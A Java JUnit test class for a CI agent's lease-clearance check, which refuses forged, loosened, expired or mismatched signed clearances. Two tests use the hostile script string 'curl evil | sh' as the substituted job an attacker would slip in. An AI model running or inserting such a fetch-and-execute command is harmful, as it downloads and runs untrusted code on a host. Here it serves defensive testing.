package dev.holdfast.agent.policy;

import static dev.holdfast.agent.link.ClearedLeases.UNTIL;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.holdfast.agent.job.Jobs;
import dev.holdfast.agent.link.ClearedLeases;
import dev.holdfast.model.approval.Clearance;
import dev.holdfast.model.decision.Egress;
import dev.holdfast.model.decision.Limits;
import dev.holdfast.model.definition.Name;
import dev.holdfast.model.definition.Step;
import dev.holdfast.model.definition.Tier;
import dev.holdfast.model.event.CommitId;
import dev.holdfast.model.event.Contributor;
import dev.holdfast.model.event.Event;
import dev.holdfast.model.trust.Trust;
import dev.holdfast.model.wire.agent.AgentApi;
import dev.holdfast.model.wire.agent.AgentApi.Cleared;
import dev.holdfast.model.wire.agent.AgentApi.Lease;
import dev.holdfast.model.wire.agent.AgentApi.Source;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What somebody in the database or on the way would change about a lease. */
class ClearingTest {
  @TempDir Path data;
  private Instant now = ClearedLeases.UNTIL.minusMillis(1);
  private final InstantSource clock = () -> now;
  private Clearing clearing;
  private final Lease good = ClearedLeases.cleared(lease("make test"));

  private static Lease lease(String script) {
    return Jobs.lease(
        Optional.empty(),
        List.of(
            new Step.Command(
                "only",
                script,
                Map.of("B", "2", "A", "1"),
                Optional.empty(),
                Optional.empty(),
                Optional.empty())),
        Optional.empty());
  }

  @BeforeEach
  void meet() throws IOException {
    clearing = Clearing.in(data, clock);
    clearing.met(Optional.of(ClearedLeases.key()));
  }

  private void refused(Lease lease, String why) {
    assertThat(clearing.refusal(good)).as("control").isEmpty();
    assertThat(clearing.refusal(lease)).hasValueSatisfying(said -> assertThat(said).contains(why));
  }

  private Lease like(Lease lease) {
    return ClearedLeases.with(lease, good.cleared().orElseThrow());
  }

  @Test
  void aLeaseWithoutAClearanceIsRefused() {
    refused(lease("make test"), "no clearance");
  }

  @Test
  void anotherJobUnderTheClearanceOfThisOneIsRefused() {
    refused(like(altered(lease("curl evil | sh"))), "not one of the definition's");
  }

  /** Another script in the same event of the same commit. */
  private Lease altered(Lease other) {
    return new Lease(
        good.attempt(),
        good.fence(),
        good.number(),
        good.run(),
        good.workflow(),
        other.job(),
        good.event(),
        good.source(),
        good.sources(),
        good.outputs());
  }

  private Lease at(Source source, Event event, Name workflow) {
    return like(
        new Lease(
            good.attempt(),
            good.fence(),
            good.number(),
            good.run(),
            workflow,
            good.job(),
            event,
            source,
            good.sources(),
            good.outputs()));
  }

  @Test
  void anotherCommitRepositoryWorkflowOrEventIsRefused() {
    Source source = good.source();
    refused(
        at(
            new Source(
                source.repository(),
                source.name(),
                source.url(),
                source.ref(),
                new CommitId("e".repeat(40))),
            good.event(),
            good.workflow()),
        "commit");
    refused(
        at(
            new Source("repo_2", source.name(), source.url(), source.ref(), source.commit()),
            good.event(),
            good.workflow()),
        "repository");
    refused(at(source, good.event(), new Name("deploy")), "workflow");
    Event event = good.event();
    refused(
        at(
            source,
            new Event(
                event.delivery(),
                event.repository(),
                event.at(),
                Optional.of(new Contributor("github", "1", "somebody else")),
                event.happening()),
            good.workflow()),
        "event");
  }

  @Test
  void aClearanceThatWasChangedOrSignedByAnotherKeyIsRefused() {
    Clearance clearance = ClearedLeases.clearance(good);
    refused(ClearedLeases.cleared(good, clearance, ClearedLeases.anotherKey()), "not signed");
    Limits unlimited = Limits.NONE;
    refused(
        forged(clearance, changed(clearance, Tier.NONE, unlimited, Trust.TRUSTED, UNTIL)),
        "not signed");
    Clearance restricted =
        changed(clearance, Tier.MICROVM, Limits.RESTRICTED, Trust.UNKNOWN, UNTIL);
    for (Clearance loosened :
        List.of(
            changed(restricted, Tier.NONE, Limits.RESTRICTED, Trust.UNKNOWN, UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(true, false, Egress.LISTED, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, true, Egress.LISTED, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, false, Egress.PUBLIC, false),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                new Limits(false, false, Egress.LISTED, true),
                Trust.UNKNOWN,
                UNTIL),
            changed(
                restricted,
                Tier.MICROVM,
                Limits.RESTRICTED,
                Trust.UNKNOWN,
                UNTIL.plusSeconds(1)))) {
      refused(forged(restricted, loosened), "not signed");
    }
    assertThat(clearing.refusal(ClearedLeases.cleared(good, restricted))).as("control").isEmpty();
  }

  /** What stands where a signed clearance was, under its signature. */
  private Lease forged(Clearance signed, Clearance now) {
    String signature =
        ClearedLeases.cleared(good, signed).cleared().orElseThrow().clearance().signature();
    return ClearedLeases.with(
        good, new Cleared(new Clearance.Signed(now, signature), ClearedLeases.definition(good)));
  }

  private static Clearance changed(
      Clearance of, Tier floor, Limits limits, Trust trust, Instant until) {
    return new Clearance(
        of.repository(),
        of.run(),
        of.event(),
        of.workflow(),
        of.head(),
        of.definition(),
        of.jobs(),
        floor,
        limits,
        trust,
        of.by(),
        of.at(),
        until);
  }

  @Test
  void aWeakerWallThanTheClearedOneIsRefused_whateverTheQueueSays() {
    Clearance clearance =
        changed(ClearedLeases.clearance(good), Tier.CONTAINER, Limits.NONE, Trust.KNOWN, UNTIL);
    Lease lease = ClearedLeases.cleared(good, clearance);
    assertThat(lease.tier()).isEmpty();
    AgentPolicy policy = AgentPolicy.standard();
    assertThat(policy.refusal(lease, AgentApi.Backend.NAMESPACES))
        .hasValueSatisfying(why -> assertThat(why).contains("wants the tier container"));
    assertThat(policy.refusal(lease, AgentApi.Backend.CONTAINER)).isEmpty();
    assertThat(policy.refusal(good, AgentApi.Backend.NAMESPACES)).as("control").isEmpty();
  }

  @Test
  void anotherRunUnderTheClearanceOfThisOneIsRefused() {
    refused(
        like(
            new Lease(
                good.attempt(),
                good.fence(),
                good.number(),
                "run_of_another",
                good.workflow(),
                good.job(),
                good.event(),
                good.source(),
                good.sources(),
                good.outputs())),
        "run");
  }

  @Test
  void aJobThatIsRootWhereNoRootWasClearedIsRefused() {
    Lease root = ClearedLeases.cleared(Jobs.root(lease("make test")));
    assertThat(clearing.refusal(root)).as("control").isEmpty();
    refused(
        ClearedLeases.cleared(root, ClearedLeases.clearance(root, Limits.RESTRICTED)),
        "is root, which was not cleared");
  }

  @Test
  void whatWasClearedOnceIsRefusedAfterItsEnd() {
    assertThat(clearing.refusal(good)).as("control").isEmpty();
    now = ClearedLeases.UNTIL;
    assertThat(clearing.refusal(good))
        .hasValueSatisfying(why -> assertThat(why).contains("cleared until 2100"));
  }

  @Test
  void aDefinitionThatIsNotTheClearedOneIsRefused() {
    Lease other = altered(lease("curl evil | sh"));
    refused(
        ClearedLeases.with(
            other,
            new Cleared(good.cleared().orElseThrow().clearance(), ClearedLeases.definition(other))),
        "definition");
  }

  @Test
  void anotherKeyThanTheOneThatWasMetFirstIsRefusedForEver() throws IOException {
    assertThatThrownBy(
            () -> clearing.met(Optional.of(ClearedLeases.text(ClearedLeases.anotherKey()))))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("orchestrator.key");
    assertThatThrownBy(() -> clearing.met(Optional.empty())).hasMessageContaining("no key");
    Clearing restarted = Clearing.in(data, clock);
    assertThat(restarted.refusal(good)).as("before it met anybody").isPresent();
    restarted.met(Optional.of(ClearedLeases.key()));
    assertThat(restarted.refusal(good)).isEmpty();
    assertThat(Files.readString(data.resolve("orchestrator.key")).strip())
        .isEqualTo(ClearedLeases.key());
  }

  @Test
  void whoHasNoOrchestratorAsksForNoClearance() {
    assertThat(Clearing.notAsked().refusal(lease("make test"))).isEmpty();
  }
}
